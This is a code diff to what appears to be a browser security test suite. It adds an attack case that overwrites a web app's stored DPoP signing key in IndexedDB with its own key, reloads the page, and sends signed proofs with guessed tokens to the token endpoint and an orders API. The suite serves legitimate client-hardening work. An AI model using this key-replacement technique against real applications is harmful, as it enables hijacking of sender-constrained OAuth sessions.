@@ -1,5 +1,15 @@
 // What is stored.
-import { codeIn, databases, element, hiddenFrame, onNavigation, soon, transactionUnderWay } from '../kit.mjs';
+import {
+  base64url,
+  codeIn,
+  databases,
+  element,
+  hiddenFrame,
+  onNavigation,
+  put,
+  soon,
+  transactionUnderWay,
+} from '../kit.mjs';
 import { onPagesOrigin, whenever } from '../reasons.mjs';
 
 /** Reads everything under a directory of the origin's private file system. */
@@ -10,6 +20,22 @@ async function files(directory, record) {
     else await files(handle, record);
   }
 }
+
+const bytesOf = (text) => new TextEncoder().encode(text);
+
+/** A proof for a request with `token` that the script has a private key (RFC 9449 section 4.2). */
+async function proof({ publicKey, privateKey }, htm, htu, token) {
+  const { crv, kty, x, y } = await crypto.subtle.exportKey('jwk', publicKey);
+  const ath = base64url(await crypto.subtle.digest('SHA-256', bytesOf(token)));
+  const header = { typ: 'dpop+jwt', alg: 'ES256', jwk: { crv, kty, x, y } };
+  const claims = { jti: crypto.randomUUID(), htm, htu, iat: Math.floor(Date.now() / 1000), ath };
+  const signed = [header, claims].map((part) => base64url(bytesOf(JSON.stringify(part)))).join('.');
+  const signature = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, privateKey, bytesOf(signed));
+  return `${signed}.${base64url(signature)}`;
+}
+
+/** Where a script keeps a key of its own across page loads. */
+const OWN_KEY = { database: 'mine', store: 'keys', key: 'mine' };
 
 export const storage = [
   {
@@ -84,6 +110,44 @@ export const storage = [
       await thief.redeem(code, code_verifier, redirect_uri);
     },
     lost: whenever(onPagesOrigin('redirect')),
+  },
+  {
+    id: 'storage-dpop-key',
+    title:
+      'replaces the key of DPoP proofs in IndexedDB by one of its own, loads the page anew, and proves possession of that key along with guessed tokens',
+    when: 'after',
+    options: { dpop: true },
+    async run({ record, leaving }) {
+      const own = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, false, ['sign', 'verify']);
+      for (const entry of await databases()) {
+        record(entry);
+        if (entry.value?.privateKey) await put({ ...entry, value: own });
+      }
+      await put({ ...OWN_KEY, value: own });
+      await leaving();
+      location.reload();
+      await new Promise(() => {});
+    },
+    async returns({ record, victim, undo, thief, config }) {
+      await victim();
+      const entries = await databases();
+      const { value: own } = entries.find(({ database }) => database === OWN_KEY.database);
+      undo(() => {
+        for (const { database } of entries) indexedDB.deleteDatabase(database);
+      });
+      record(entries);
+      const { token_endpoint } = await thief.metadata();
+      const body = new URLSearchParams({
+        grant_type: 'refresh_token',
+        refresh_token: 'guess',
+        client_id: config.clientId,
+      });
+      const tokens = { DPoP: await proof(own, 'POST', token_endpoint, 'guess') };
+      record(await fetch(token_endpoint, { method: 'POST', headers: tokens, body }).catch((error) => error));
+      const orders = `${config.api}orders`;
+      const call = { DPoP: await proof(own, 'GET', orders, 'guess'), Authorization: 'DPoP guess' };
+      record(await fetch(orders, { headers: call }).catch((error) => error));
+    },
   },
   {
     id: 'storage-cookies',
